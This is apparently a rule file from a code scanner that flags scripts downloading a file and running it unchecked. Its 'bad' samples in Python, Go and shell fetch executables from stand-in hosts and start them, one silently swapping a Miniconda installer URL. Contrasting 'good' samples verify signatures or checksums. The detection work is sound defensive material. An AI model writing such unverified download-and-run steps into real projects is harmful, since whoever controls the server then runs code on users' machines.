import type { FileCheck } from '../../check.ts';

/** By how sure it is that the file is started, not only made ready. */
const SEVERITIES = { high: 'critical', medium: 'high', low: 'medium' } as const;

export const check: FileCheck = {
  id: 'rce-dropper',
  title: 'Fetches a file and starts it',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [494],
  why: `
    A file arrives from a server, or out of a disguised text, and is started at once. Nothing compares it with what it
    should be, so whoever controls the server, or wrote the text, decides what runs on this machine.`,
  fix: 'Ship what is needed with the package, or compare a checksum that is written in the code before anything is started.',
  blindSpots: 'A file that another function or program starts much later is not connected with its download.',
  wants: { acts: ['dropped-execution'] },
  examples: {
    bad: [
      {
        'setup.py': `
          r = requests.get("https://cdn.example.net/update.exe")
          «open("update.exe", "wb")».write(r.content)
          os.system("start update.exe")`,
      },
      {
        'load.py': `
          import subprocess
          def load(url, path):
              subprocess.call(f'«curl -o {path}» {url} && start {path}', shell=True)`,
      },
      {
        'steps.py': `
          import os, urllib.request
          BASE = 'https://files.example.net/latest'
          class Steps:
              def fetch(url):
                  path = os.environ["TEMP"] + "/bin.exe"
                  urllib.request.«urlretrieve(url, path)»
                  return path
              def run(path):
                  os.system(f'start {path}')
          Steps.run(Steps.fetch(BASE))`,
      },
      {
        'main.go': `
          resp, _ := http.Get("https://cdn.example.net/agent")
          out, _ := «os.Create("/tmp/agent")»
          io.Copy(out, resp.Body)
          exec.Command("/tmp/agent").Run()`,
      },
      {
        'setup.sh': `
          TOOL_URL="https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh"
          echo "Looking for a program for this system"
          TOOL_URL="https://cdn.example.net/miniconda.sh"
          «wget "$TOOL_URL" -O ~/miniconda.sh»
          bash ~/miniconda.sh -b -p "$HOME/miniconda"`,
      },
    ],
    good: [
      {
        'update.ts': `
          import { spawn } from 'node:child_process';
          import { chmod, rename, writeFile } from 'node:fs/promises';
          import { isAuthentic } from './release-key.ts';
          export async function update(): Promise<void> {
            const release = await (await fetch('https://releases.acme-agent.io/latest.json')).json();
            const program = Buffer.from(await (await fetch(release.url)).arrayBuffer());
            if (!isAuthentic(program, release.signed)) throw new Error('not ours');
            const staged = process.execPath + '.new';
            await writeFile(staged, program);
            await chmod(staged, 0o755);
            await rename(staged, process.execPath);
            spawn(process.execPath, process.argv.slice(1), { detached: true });
          }`,
      },
      {
        'setup.sh': `
          echo "Looking for a program for this system"
          if [ "$(uname)" = "Darwin" ]; then
            TOOL_URL="https://repo.anaconda.com/miniconda/Miniconda3-latest-MacOSX-arm64.sh"
          else
            TOOL_URL="https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh"
          fi
          wget "$TOOL_URL" -O ~/miniconda.sh
          bash ~/miniconda.sh -b -p "$HOME/miniconda"`,
      },
      {
        'install.py': `
          import os
          os.system("curl -sSL -o tool.sh https://github.com/vendor/tool/releases/download/v1.2/tool.sh && chmod +x tool.sh && ./tool.sh")`,
      },
      {
        'fetch.py': `
          r = requests.get("https://cdn.example.net/tool")
          if hashlib.sha256(r.content).hexdigest() != EXPECTED: raise SystemExit(1)
          open("tool", "wb").write(r.content)
          os.system("./tool --version")`,
      },
      {
        'runtime.rs': `
          async fn install() -> Result<(), Failure> {
              let answer = reqwest::get("https://go.microsoft.com/fwlink/p/?LinkId=1000000").await?;
              let path = folder.path().join("runtime-setup");
              let mut file = std::fs::File::create(&path)?;
              io::copy(&mut Cursor::new(answer.bytes().await?), &mut file)?;
              Command::new(&path).args(["/install"]).status()?;
              Ok(())
          }`,
      },
      { 'save.py': 'r = requests.get(url)\nopen("report.pdf", "wb").write(r.content)\n' },
    ],
  },

  *find({ acts, span }) {
    for (const { start, end, message, confidence } of acts) {
      yield { at: span(start, end), message, confidence, severity: SEVERITIES[confidence] };
    }
  },
};
